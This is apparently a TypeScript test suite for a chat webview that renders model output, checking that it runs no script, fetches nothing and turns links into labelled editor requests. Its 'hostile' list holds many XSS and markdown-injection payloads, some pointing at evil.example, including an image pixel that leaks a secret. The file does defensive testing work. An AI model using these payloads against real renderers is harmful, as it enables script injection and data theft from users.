import assert from 'node:assert/strict';
import { readFile, stat } from 'node:fs/promises';
import path from 'node:path';
import { delta, snapshot } from './chatStates.ts';
import { useStage } from './setup.ts';

const hostile = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><button autofocus onfocus=window.pwned=1>go</button></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/p)">cover</p>',
  '<math><mtext></table></math><img src onerror=window.pwned=1>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVa&#x09;script&colon;window.pwned=1)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[click](vbscript:msgbox)',
  '[click](command:workbench.action.terminal.new)',
  '<javascript:window.pwned=1>',
  '[ref]\n\n[ref]: javascript:window.pwned=1 "title"',
  '![leak](https://evil.example/pixel.png?secret=1)',
  '![leak](data:image/svg+xml,<svg onload=window.pwned=1>)',
  '![x](x "onerror=window.pwned=1")',
  '`<img src=x onerror=window.pwned=1>`',
  '```html\n<script>window.pwned = 1</script>\n```',
  '```"><script>window.pwned=1</script>\nx\n```',
  '| <img src=x onerror=window.pwned=1> | [a](javascript:window.pwned=1) |\n|---|---|\n| <script>window.pwned=1</script> | &lt;b&gt; |',
  '- [ ] <input autofocus onfocus=window.pwned=1>',
  '# <img src=x onerror=window.pwned=1>',
  'a &lt;img src=x onerror=window.pwned=1&gt; b &#60;script&#62;',
  '[x](https://example.org" onmouseover="window.pwned=1)',
  '[fine](https://huggingface.co@evil.example/)',
  '<!--[if gte IE 4]><script>window.pwned=1</script><![endif]-->',
  '<details open ontoggle=window.pwned=1><summary>s</summary></details>',
];

const elements =
  'script, img, svg:not(.swatch), iframe, style, link, base, meta, form, object, embed, video, audio, math, details, [style], [srcdoc]';

describe('Text from a model', function () {
  this.timeout(60_000);
  const setup = useStage();

  // shows: chat-safe-markdown, chat-csp
  it('neither runs, nor loads, nor becomes markup, wherever it stands', async () => {
    const view = setup.keep(await setup.stage.open({ view: 'chat' }));
    const all = hostile.join('\n\n');
    await view.send(
      snapshot([
        {
          kind: 'user',
          id: 'u',
          text: all,
          mentions: [{ kind: 'file', label: '<img src=x onerror=window.pwned=1>', path: '/x' }],
          atMs: 0,
        },
        ...hostile.map((markdown, at) => ({ kind: 'assistant' as const, id: `a${at}`, markdown, isStreaming: false })),
        { kind: 'thinking', id: 'th', text: all, isStreaming: false },
        { kind: 'tool', id: 't', tool: 'x', title: '<script>window.pwned=1</script>', state: 'running', output: all, note: all },
        { kind: 'notice', id: 'n', level: 'info', text: all },
      ]),
    );
    const { page } = view;
    assert.deepEqual(
      await page.evaluate(
        `[...document.querySelector('.transcript').querySelectorAll(${JSON.stringify(elements)})].map((node) => node.outerHTML)`,
      ),
      [],
    );
    assert.deepEqual(
      await page.evaluate(`[...document.querySelectorAll('.transcript *')].flatMap((node) => [...node.attributes]
        .filter(({ name }) => name.startsWith('on')).map(({ name }) => name))`),
      [],
    );
    const targets: readonly string[] = await page.evaluate(`[...document.querySelectorAll('.transcript a')].map((link) => link.href)`);
    for (const target of targets) assert.match(target, /^https?:/);
    for (const link of await page.locator('.transcript a, .transcript .markdown .link').all()) await link.click();
    assert.equal(await page.evaluate('window.pwned'), undefined);
    assert.deepEqual(await page.evaluate('window.violations'), []);
    assert.deepEqual(view.troubles, []);
    for (const message of await view.posted()) {
      assert.ok(['ready', 'openLink', 'openFile'].includes(message.type), message.type);
      if (message.type === 'openLink' && 'url' in message) assert.match(message.url, /^https?:/);
    }
  });

  // shows: chat-safe-markdown
  it('stays as harmless while it streams in, character by character', async () => {
    const view = setup.keep(await setup.stage.open({ view: 'chat' }));
    await view.send(snapshot([{ kind: 'assistant', id: 'a', markdown: '', isStreaming: true }]));
    const text = hostile.slice(0, 16).join('\n\n');
    let seq = 2;
    const deltas = [...text].map((character) => delta(seq++, [{ op: 'text', id: 'a', text: character }]));
    for (let at = 0; at < deltas.length; at += 40) await view.send(...deltas.slice(at, at + 40));
    assert.equal(await view.page.evaluate('window.pwned'), undefined);
    assert.equal(await view.page.locator(`.transcript :is(${elements})`).count(), 0);
    assert.deepEqual(view.troubles, []);
  });

  // shows: untrusted-links
  it('fetches nothing by itself: images and links are words with their host, and a click asks the editor', async () => {
    const view = setup.keep(await setup.stage.open({ view: 'chat' }));
    const markdown = [
      '![chart](https://evil.example/a.png "a title")',
      '![](https://evil.example/b.png)',
      '[![badge](https://evil.example/c.svg)](https://evil.example/d)',
      '![ref][pic]\n\n[pic]: https://evil.example/e.png',
      '[the docs](https://huggingface.co/docs)',
      '[https://huggingface.co](https://evil.example/f)',
      'https://evil.example/g',
    ];
    const items = markdown.map((text, at) => ({ kind: 'assistant' as const, id: `a${at}`, markdown: text, isStreaming: false }));
    await view.send(
      snapshot([...items, { kind: 'tool', id: 't', tool: 'x', title: 'x', state: 'running', output: markdown.join('\n') }]),
      snapshot([...items, { kind: 'context', id: 'c', title: 'Summarised', summary: markdown.join('\n\n') }], {}, { seq: 2 }),
    );
    const { page } = view;
    await page.getByRole('button', { name: 'Summarised' }).click();
    const words = await page.locator('[data-id="a4"], [data-id="a5"], [data-id="a6"]').allInnerTexts();
    assert.deepEqual(
      words.map((text) => text.trim()),
      ['the docs (huggingface.co)', 'https://huggingface.co (evil.example)', 'https://evil.example/g'],
    );
    for (const shown of await page.locator('.transcript a').allInnerTexts()) assert.match(shown, /evil\.example|huggingface\.co/);
    for (const link of await page.locator('.transcript a').all()) {
      await link.hover();
      await link.focus();
    }
    assert.equal(await page.locator('img, link[rel=prefetch], link[rel=preconnect], [ping]').count(), 0);
    assert.deepEqual((await view.posted()).slice(1), []);
    assert.deepEqual(view.troubles, [], 'no request, and no refusal of one');
    await page.locator('[data-id="a0"] a').click();
    assert.deepEqual((await view.posted()).slice(1), [{ type: 'openLink', url: 'https://evil.example/a.png' }]);
    assert.deepEqual(view.troubles, []);
  });

  // shows: chat-csp, untrusted-links
  it('shows an image as a link that names its host', async () => {
    const view = setup.keep(await setup.stage.open({ view: 'chat' }));
    await view.send(
      snapshot([{ kind: 'assistant', id: 'a', markdown: '![confusion matrix](https://example.org/c.png)', isStreaming: false }]),
    );
    const link = view.page.getByRole('link', { name: 'confusion matrix (example.org)' });
    assert.match((await link.getAttribute('title')) ?? '', /^example\.org/);
    await link.click();
    assert.deepEqual((await view.posted()).at(-1), { type: 'openLink', url: 'https://example.org/c.png' });
  });

  // shows: chat-csp, webview-csp, paper-size
  it('meets bundles that need no eval and stay small', async () => {
    const limitsKb = {
      'chat.js': 200,
      'curves.js': 150,
      'paper.js': 360,
      'paperPages.js': 1650,
      'reproduction.js': 100,
      'reproductionFormulas.js': 300,
    };
    for (const [file, limitKb] of Object.entries(limitsKb)) {
      const bundle = path.join(setup.folder, file);
      assert.ok((await stat(bundle)).size <= limitKb * 1000, `${file} is larger than ${limitKb} KB`);
      assert.doesNotMatch(await readFile(bundle, 'utf8'), /\beval\(|new Function\(|Function\("return/);
    }
  });

  // shows: chat-theme
  it('is shown in colours of the theme only', async () => {
    for (const file of ['chat.css', 'curves.css', 'paper.css', 'reproduction.css']) {
      const css = await readFile(path.join(setup.folder, file), 'utf8');
      // uPlot's own sheet names two neutrals, which curves.css overrides.
      const named = css.replace(/\.u-[^{}]*\{[^}]*\}/g, '').replace(/\.uplot[^{}]*\{[^}]*\}/g, '');
      // Pictures and pages of a paper are made for white paper; the rule that says so says nothing else.
      const own = named.replace(/[^{}]*\.crop\{background:#fff;?\}/g, '');
      assert.deepEqual(own.match(/#[0-9a-f]{3,8}\b|\brgba?\(|\bhsla?\(/gi) ?? [], [], file);
    }
  });
});
